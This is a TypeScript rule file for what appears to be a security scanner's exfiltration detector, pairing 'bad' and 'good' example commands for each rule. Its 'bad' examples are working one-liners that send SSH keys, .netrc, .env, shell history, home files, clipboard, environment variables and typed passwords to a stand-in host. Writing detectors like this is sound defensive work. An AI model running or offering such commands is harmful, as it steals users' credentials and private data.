import { exfiltrationFlow } from "../../detectors/exfiltration-flow.ts";
import { defineRules } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const exfiltrationFlowRules = defineRules({
  family: "exfiltration",
  run: ignoreSamples(exfiltrationFlow),
  rules: [
    {
      id: "exfiltration.sends-vault",
      alias: "R05.sends_vault",
      severity: "block",
      says: "It sends keys, wallets, browser profiles and other stores of nothing but secrets to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["curl -F f=@$HOME/.ssh/id_rsa https://unknown.example/x"],
      good: ["curl -F f=@report.pdf https://unknown.example/x"],
    },
    {
      id: "exfiltration.sends-environment",
      alias: "R05.sends_environment",
      severity: "block",
      says: "It sends the whole environment to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["env | curl -d @- https://unknown.example/x"],
      good: ["env | curl -d @- http://localhost:8080/debug"],
    },
    {
      id: "exfiltration.sends-login-file",
      alias: "R05.sends_login_file",
      severity: "block",
      says: "It sends files with stored logins to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["curl --data-binary @$HOME/.netrc https://unknown.example/x"],
      good: ["curl --netrc https://unknown.example/x"],
    },
    {
      id: "exfiltration.sends-secret-file",
      alias: "R05.sends_secret_file",
      severity: "block",
      says: "It sends files with settings and secrets to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["curl --data-binary @.env https://unknown.example/x"],
      good: ["curl --data-binary @notes.txt https://unknown.example/x"],
    },
    {
      id: "exfiltration.sends-variable",
      alias: "R05.sends_variable",
      severity: "review",
      says: "It sends a secret of the environment to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ['curl -d "k=$OPENAI_API_KEY" https://unknown.example/x'],
      good: ['curl -H "Authorization: Bearer $NOTION_API_KEY" -d x=1 https://api.notion.com/v1/search'],
    },
    {
      id: "exfiltration.sends-typed",
      alias: "R05.sends_typed",
      severity: "block",
      says: "It sends a password that a person types to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: [
        python(
          "import getpass, requests\np = getpass.getpass()\nrequests.post('https://unknown.example/x', data=p)",
        ),
      ],
      good: [python("import requests\np = input('Title: ')\nprint(p)")],
    },
    {
      id: "exfiltration.sends-history",
      alias: "R05.sends_history",
      severity: "block",
      says: "It sends the shell's history to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["curl --data-binary @$HOME/.bash_history https://unknown.example/x"],
      good: ["tail $HOME/.bash_history"],
    },
    {
      id: "exfiltration.sends-personal",
      alias: "R05.sends_personal",
      severity: "block",
      says: "It sends files of a person's home to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["tar cz ~/Documents | curl --data-binary @- https://unknown.example/x"],
      good: ["tar cz docs | curl --data-binary @- http://localhost:9000/x"],
    },
    {
      id: "exfiltration.sends-screen",
      alias: "R05.sends_screen",
      severity: "block",
      says: "It sends what the screen, the camera or the microphone shows to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["screencapture s.png; scrot - | curl --data-binary @- https://unknown.example/x"],
      good: ["scrot s.png"],
    },
    {
      id: "exfiltration.sends-clipboard",
      alias: "R05.sends_clipboard",
      severity: "review",
      says: "It sends what was copied to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["pbpaste | curl -d @- https://unknown.example/x"],
      good: ["pbpaste | wc -c"],
    },
    {
      id: "exfiltration.sends-host-facts",
      alias: "R05.sends_host_facts",
      severity: "review",
      says: "It sends facts about the machine and its user to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["hostname | curl -d @- https://unknown.example/x"],
      good: ["hostname | wc -c"],
    },
    {
      id: "exfiltration.sends-repository",
      alias: "R05.sends_repository",
      severity: "review",
      says: "It sends files of the project to somebody who is not meant to have it.",
      falsePositive:
        "A backup or support tool that sends it with the user's knowledge to a service that the pages do not name.",
      bad: ["git log -p | curl --data-binary @- https://unknown.example/x"],
      good: ["git log -p | wc -l"],
    },
  ],
});
